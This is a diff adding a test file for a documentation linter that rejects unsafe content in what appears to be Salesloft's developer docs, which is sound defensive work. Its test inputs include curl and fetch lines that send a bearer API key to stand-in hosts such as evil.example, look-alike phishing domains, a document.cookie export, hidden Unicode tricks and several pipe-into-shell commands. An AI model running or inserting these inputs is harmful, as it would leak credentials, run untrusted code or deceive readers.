@@ -1,0 +1,156 @@
+// cspell:ignore salesl
+import {describe, expect, test} from 'vitest';
+import {textProblems} from '../../../../../plugins/lib/guide-checks/textProblems';
+
+const GUIDE = 'docs/platform/a.mdx';
+const MARKDOWN = 'docs/a.md';
+const SAMPLE = 'docs/platform/samples/a.sh';
+const SPEC = 'openapi/v2/a.yaml';
+
+const bash = (...lines: readonly string[]): string => ['```bash', ...lines, '```'].join('\n');
+const js = (...lines: readonly string[]): string => ['```js', ...lines, '```'].join('\n');
+const KEY = '-H "Authorization: Bearer $SALESLOFT_API_KEY"';
+const listed = (host: string): string =>
+  `Correct it. If it is right, add the line '${host}', to src/config/otherHosts.ts.`;
+
+type Refused = readonly [what: string, file: string, text: string, problem: string];
+
+/** What the third review by attack published (S3). */
+const PUBLISHED: readonly Refused[] = [
+  [
+    'a key for another host by curl',
+    GUIDE,
+    `Text.\n\n${bash('curl -sS \\', `  https://evil.example/v2/me ${KEY}`)}`,
+    `${GUIDE}:5 Readers may send a credential to evil.example. ${listed('evil.example')} (sample-hosts)`,
+  ],
+  [
+    'a key for a host that looks like ours, by fetch',
+    GUIDE,
+    js(
+      "await fetch('https://api.salesl0ft.example/v2/me', {",
+      '  headers: {authorization: `Bearer ${process.env.SALESLOFT_API_KEY}`},',
+      '});',
+    ),
+    `${GUIDE}:2 The host api.salesl0ft.example looks like one of Salesloft. ${listed('api.salesl0ft.example')} (look-alike-hosts)`,
+  ],
+  [
+    'a download for a shell',
+    GUIDE,
+    bash('curl -sS https://developers.salesloft.com/install | sh'),
+    `${GUIDE}:2 \`| sh\` runs what a host sends. Save it to a file, and run that in a second step. (no-pipe-into-shell)`,
+  ],
+  [
+    'a user before the host',
+    GUIDE,
+    '[Log in](https://api.salesloft.com@evil.example/)',
+    `${GUIDE}:1 The URL https://api.salesloft.com@… has a user before its host. Remove everything up to the @. (no-user-info)`,
+  ],
+  [
+    'a link without a scheme',
+    GUIDE,
+    '[a](//evil.example)',
+    `${GUIDE}:1 The link //evil.example has no scheme. Begin it with https:, or with one slash. (link-targets)`,
+  ],
+  [
+    'a login that looks like ours',
+    GUIDE,
+    '[Log in to Salesloft](https://accounts.salesl0ft.example/)',
+    `${GUIDE}:1 The host accounts.salesl0ft.example looks like one of Salesloft. ${listed('accounts.salesl0ft.example')} (look-alike-hosts)`,
+  ],
+  [
+    'reversed text',
+    GUIDE,
+    'Text.\n\nSend \u202Etxt.exe',
+    `${GUIDE}:3 U+202E is invisible, or changes the direction of the text. Remove it. (visible-characters)`,
+  ],
+  [
+    'an invisible character in a host',
+    GUIDE,
+    '`api.sales\u200Bloft.com`',
+    `${GUIDE}:1 U+200B is invisible, or changes the direction of the text. Remove it. (visible-characters)`,
+  ],
+];
+
+/** Other ways to write the same, in other kinds of files, each with its rule. */
+const VARIANTS: readonly Refused[] = [
+  ['a statement', GUIDE, "import a from 'https://evil.example/a.js'", 'own-imports'],
+  ['an export', GUIDE, "import Tabs from '@theme/Tabs';\nexport const a = document.cookie;", ':2 `export const'],
+  ['a folder above the components', GUIDE, "import {a} from '@site/src/components/../../evil';", 'own-imports'],
+  [
+    'a key for a listed company of another domain',
+    SAMPLE,
+    `curl https://larkfield.example.evil.io/ ${KEY}`,
+    'sample-hosts',
+  ],
+  ['a host without a scheme', SAMPLE, `curl \\\n  evil.io/v2/me ${KEY}`, ':2 Readers may send a credential to evil.io'],
+  ['a host of a header', GUIDE, '```http\nGET /v2/me\nHost: evil.io\n```', 'sample-hosts'],
+  ['a host of a connection', GUIDE, '```python\nHTTPSConnection("evil.io")\n```', 'sample-hosts'],
+  ['a URL with one slash', GUIDE, js("fetch('https:/evil.io/')"), 'sample-hosts'],
+  ['a host in a variable', SAMPLE, `curl "https://$HOST/v2/me" ${KEY}`, 'Readers may send a credential to $host.'],
+  ['a user in code', SAMPLE, 'curl https://api.salesloft.com:443@evil.example/', 'no-user-info'],
+  [
+    'a token URL of a description',
+    SPEC,
+    'a:\n  tokenUrl: https://evil.io/token',
+    `${SPEC}:2 Readers may send a credential`,
+  ],
+  [
+    'a sample in a description',
+    SPEC,
+    'description: |\n  Text.\n\n  ```bash\n  curl https://evil.io\n  ```',
+    `${SPEC}:5 Readers`,
+  ],
+  ['a link in a recipe', 'openapi/recipes/a.arazzo.yaml', 'summary: "[a](//evil.example)"', 'link-targets'],
+  ['a link with the prefix of Docusaurus', GUIDE, '[a](pathname:////evil.example)', 'link-targets'],
+  ['a link by escapes', GUIDE, '[a](&#47;&#47;evil.example)', 'link-targets'],
+  ['a link by reference', MARKDOWN, '[a][1]\n\n[1]: <//evil.example>', `${MARKDOWN}:3 The link //evil.example`],
+  [
+    'a link with the words of another',
+    GUIDE,
+    '[https://api.salesloft.com/](https://evil.io/)',
+    'leads to https://evil.io/.',
+  ],
+  ['a link with a host of ours as its words', GUIDE, '[api.salesloft.com](https://evil.io/)', 'link-targets'],
+  ['our name with another ending', MARKDOWN, 'https://salesloft.evil.io/', 'look-alike-hosts'],
+  ['our name with hyphens', MARKDOWN, '<p>https://sales-loft.com/</p>', 'look-alike-hosts'],
+  ['swapped letters', MARKDOWN, 'https://www.saleslotf.com/', 'look-alike-hosts'],
+  ['letters of another alphabet', MARKDOWN, '[a](https://api.s\u0430lesloft.com/)', 'look-alike-hosts'],
+  ['a character by its reference', GUIDE, 'Send &#x202E;txt.exe', 'U+202E'],
+  ['a character by its escape', SPEC, 'description: "sales\\u200Bloft"', `${SPEC}:1 U+200B`],
+  ['an escape in a sentence', SPEC, 'description: "A \\uFEFFsentence"', 'U+FEFF'],
+  ['a soft hyphen in front matter', GUIDE, '---\ntitle: Sales\u00ADloft\n---\nText', `${GUIDE}:2 U+00AD`],
+  ['a byte order mark in code', 'src/components/a.ts', "const a = '\uFEFF';", 'U+FEFF'],
+  ['a pipe into a shell of root', GUIDE, bash('wget -qO- a | \\', '  sudo -E /bin/bash -s --'), 'no-pipe-into-shell'],
+  ['a pipe into an interpreter', SPEC, 'description: Run `curl a | python3 -`.', 'no-pipe-into-shell'],
+  ['a pipe of PowerShell', GUIDE, '`irm a | iex`', 'no-pipe-into-shell'],
+  ['a substitution', SAMPLE, 'sh -c "$(curl -fsSL a)"', 'no-pipe-into-shell'],
+  ['a substituted file', SAMPLE, 'bash <(curl a)', 'no-pipe-into-shell'],
+  ['a pipe in the words of a point', GUIDE, '<Unverified what="Run curl a | sh." />', 'no-pipe-into-shell'],
+];
+
+const ALLOWED: readonly (readonly [file: string, text: string])[] = [
+  [GUIDE, bash('curl -sS "https://api.salesloft.com/v2/me" \\', `  ${KEY}`)],
+  [SAMPLE, `API=\${SALESLOFT_API_URL:-https://api.salesloft.com}\ncurl "$API/v2/me" ${KEY} -o me.json`],
+  [SAMPLE, `curl http://127.0.0.1:\${PORT}/ ${KEY}\ncurl https://localhost:8444/ ${KEY}\ncurl http://[::1]:80/ ${KEY}`],
+  [SAMPLE, `curl https://crm.larkfield.example/ ${KEY}`],
+  [GUIDE, '```json other\n{"url": "https://linkedin.example/in/a", "host": "kits.example"}\n```'],
+  [GUIDE, bash('curl -sS a -o a.sh || exit 1', 'bash a.sh', 'curl -sS a | python3 -m json.tool', 'curl a | jq .')],
+  [GUIDE, '[`/llms.txt`](pathname:///llms.txt), [a](/docs/), [b](#b), [salesloft.mjs](https://github.com/a/b)'],
+  [
+    GUIDE,
+    '[https://api.salesloft.com](https://api.salesloft.com/v2/me), https://help.salesloft.com/, a@larkfield.example',
+  ],
+  [GUIDE, "import { RecipeRun } from '@site/src/features/recipes';\nimport Tabs from '@theme/Tabs';\n\nText."],
+  [SPEC, 'servers:\n  - url: https://api.salesloft.com\nexample: https://www.salesforce.com/in/a'],
+  ['src/components/a.ts', "const a = '\\u202E';\nconst url = 'https://evil.example/';"],
+];
+
+describe('@hosts-03 a text', () => {
+  test.each([...PUBLISHED, ...VARIANTS])('with %s is refused in %s', (_, file, text, problem) => {
+    expect(textProblems(file, text).join('\n')).toContain(problem);
+  });
+
+  test.each(ALLOWED)('in %s may be %j', (file, text) => {
+    expect(textProblems(file, text)).toEqual([]);
+  });
+});
